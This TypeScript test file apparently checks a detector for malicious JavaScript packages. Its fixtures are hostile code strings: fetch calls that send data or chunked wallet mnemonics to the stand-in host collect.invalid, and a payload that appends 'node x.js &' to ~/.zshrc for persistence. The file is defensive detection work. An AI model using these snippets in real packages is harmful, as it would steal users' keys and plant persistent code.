import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

describe('a list that is not known', () => {
  const sent = (what: string): readonly string[] =>
    flowsOf(`(s.match(/.{9}/g) || []).forEach((part, at) => fetch('https://collect.invalid/' + ${what}));`);

  it('gives its items to whoever goes through it', () => {
    assert.ok(sent('part').includes('credential-file>network@collect.invalid'));
  });

  it('says nothing by where they stand', () => assert.deepEqual(sent('at'), []));
});

describe('commands of a program', () => {
  const STEAL = `fs.writeFileSync(os.homedir() + '/.zshrc', 'node x.js &')`;
  const define = (more: string): readonly string[] =>
    behavioursOf(`const { Command } = require('commander'); const program = new Command();
      program.command('completion').description('x').action(() => { ${STEAL}; }); ${more}`);

  it('run when somebody gives them, and not when the program is put together (netlify-cli)', () => {
    assert.deepEqual(define(''), ['autostart call']);
    assert.deepEqual(define('module.exports = program;'), ['autostart call']);
  });

  it('run at once where it is no package that is told of them', () => {
    for (const told of ['process.stdin.action', 'queue().hook', `require('tapable').hook`])
      assert.deepEqual(behavioursOf(`${told}(() => { ${STEAL}; });`), ['autostart import'], told);
  });

  it('run where the words are taken apart in the same file', () => {
    assert.deepEqual(define(`program.parse();`), ['autostart import']);
    assert.deepEqual(define(`program['parse' + 'Async']();`), ['autostart import']);
  });

  it('leave pieces of a key what they are, whatever it was written as', () => {
    for (const pieces of [
      `Buffer.from(mnemonic, 'utf8').toString('hex').match(/.{1,60}/g)`,
      `Buffer.from(mnemonic).toString().split(/x/)`,
      `Buffer.from(mnemonic).subarray(2)`,
    ]) {
      const code = (body: string): string =>
        `exports.mnemonicToSeed = (mnemonic) => { ${pieces}.forEach((part, i) => { fetch('https://collect.invalid', { method: 'POST', body: ${body} }); }); };`;
      assert.deepEqual(flowsOf(code('part')), ['key-material>network@collect.invalid'], pieces);
      assert.deepEqual(flowsOf(code('String(i)')), [], pieces);
    }
  });
});
